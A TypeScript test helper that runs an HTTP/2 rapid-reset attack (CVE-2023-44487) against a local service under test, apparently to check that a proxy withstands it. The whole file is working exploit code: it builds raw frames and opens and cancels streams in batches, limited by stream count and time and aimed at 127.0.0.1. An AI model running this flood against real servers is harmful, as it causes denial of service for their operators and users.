/**
 * A rapid-reset client (CVE-2023-44487) in a process of its own, so that the attack does not share the event
 * loop of the service under test: it opens and resets HTTP/2 streams at a listener, written as raw frames
 * (HEADERS with END_STREAM, then RST_STREAM CANCEL a moment later, so that the proxy has started the work it then
 * cancels), over `connections` connections until `streams` were sent or `maxMs` passed; a connection the server
 * closes is replaced. Bounded in count and time.
 */
import { spawn } from 'node:child_process';

export interface AttackOptions {
  readonly port: number;
  readonly path: string;
  readonly connections: number;
  readonly streams: number;
  readonly maxMs: number;
  /** Streams per connection per write (default 50); a pause of about 1 ms follows each. */
  readonly batch?: number;
}

export interface AttackResult {
  /** Streams opened and reset. */
  readonly sent: number;
  /** Connections opened. */
  readonly opened: number;
  readonly ms: number;
}

const SCRIPT = `
import * as net from 'node:net';
const o = JSON.parse(process.argv[1]);
const frame = (type, flags, id, payload) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
};
// HPACK: :method GET, :scheme http (static table), :authority and :path as literals without indexing
const lit = (index, value) => Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value)]);
const block = Buffer.concat([Buffer.from([0x82, 0x86]), lit(1, 'localhost'), lit(4, o.path)]);
const cancel = Buffer.from([0, 0, 0, 8]);
let sent = 0;
let opened = 0;
const started = performance.now();
const more = () => sent < o.streams && performance.now() - started < o.maxMs;
const tick = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
async function worker() {
  while (more()) {
    const socket = net.connect(o.port, '127.0.0.1');
    opened++;
    socket.on('error', () => undefined);
    let acked = false;
    socket.on('data', () => {
      if (!acked) socket.write(frame(4, 1, 0, Buffer.alloc(0))); // SETTINGS ACK
      acked = true;
    });
    const closed = new Promise((resolve) => socket.once('close', resolve));
    await new Promise((resolve) => { socket.once('connect', resolve); socket.once('close', resolve); });
    socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'), frame(4, 0, 0, Buffer.alloc(0))]));
    let id = 1;
    while (more() && !socket.destroyed) {
      const headers = [];
      const resets = [];
      for (let i = 0; i < (o.batch ?? 50) && more(); i++, sent++, id += 2) {
        headers.push(frame(1, 0x5, id, block));
        resets.push(frame(3, 0, id, cancel));
      }
      socket.write(Buffer.concat(headers));
      await tick(1);
      socket.write(Buffer.concat(resets));
      await tick(1);
    }
    socket.destroy();
    await closed;
  }
}
await Promise.all(Array.from({ length: o.connections }, worker));
process.stdout.write(JSON.stringify({ sent, opened, ms: Math.round(performance.now() - started) }));
`;

export function rapidResetAttack(options: AttackOptions): Promise<AttackResult> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ['--input-type=module', '-e', SCRIPT, JSON.stringify(options)], { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    child.stdout.on('data', (c: Buffer) => (out += c.toString()));
    child.stderr.on('data', (c: Buffer) => (err += c.toString()));
    const timer = setTimeout(() => child.kill('SIGKILL'), options.maxMs + 15_000);
    child.once('error', reject);
    child.once('exit', (code) => {
      clearTimeout(timer);
      if (code === 0) resolve(JSON.parse(out) as AttackResult);
      else reject(new Error(`rapid-reset attacker exited ${code}: ${err}`));
    });
  });
}
